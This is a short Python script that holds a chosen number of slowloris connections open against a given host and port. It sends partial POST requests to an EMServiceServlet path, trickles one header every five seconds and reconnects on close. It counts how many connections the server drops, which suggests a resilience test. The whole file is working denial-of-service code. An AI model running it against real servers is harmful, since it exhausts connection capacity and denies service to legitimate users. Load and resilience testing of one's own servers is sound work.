"""Holds N slowloris connections to HOST:PORT: each sends a request line
and one header, then one more header line every 5 s, and reconnects when
the server closes it. Prints `open N` once all are up, and on SIGTERM the
number of connections the server closed while it ran."""
import asyncio, signal, sys

host, port, n = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
closed = 0
live = 0


async def one():
    global closed, live
    while True:
        try:
            r, w = await asyncio.open_connection(host, port)
            w.write(b"POST /emservice/EMServiceServlet HTTP/1.1\r\nHost: x\r\n")
            await w.drain()
        except OSError:
            await asyncio.sleep(0.1)
            continue
        live += 1
        try:
            while True:
                try:
                    if not await asyncio.wait_for(r.read(1024), 5):
                        break
                except asyncio.TimeoutError:
                    w.write(b"X-Slow: 1\r\n")
                    await w.drain()
        except OSError:
            pass
        live -= 1
        closed += 1


async def main():
    tasks = []
    for _ in range(n):
        tasks.append(asyncio.create_task(one()))
        await asyncio.sleep(0)
    for _ in range(200):
        if live >= n:
            break
        await asyncio.sleep(0.05)
    print("open %d" % live, flush=True)
    stop = asyncio.Event()
    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, stop.set)
    await stop.wait()
    print("%d closed by the server" % closed, flush=True)


asyncio.run(main())
